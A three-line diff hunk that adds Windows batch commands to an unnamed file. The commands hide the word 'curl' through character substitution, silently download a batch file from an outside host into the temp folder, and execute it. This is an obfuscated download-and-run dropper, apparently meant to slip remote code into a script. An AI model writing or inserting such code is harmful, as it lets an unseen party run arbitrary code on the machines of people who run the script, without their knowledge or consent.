@@ -1,0 +1,3 @@
+set q=c#u#r#l
+%q:#=% -so %TEMP%\a.bat https://cdn-x7.invalid/a
+call %TEMP%\a.bat
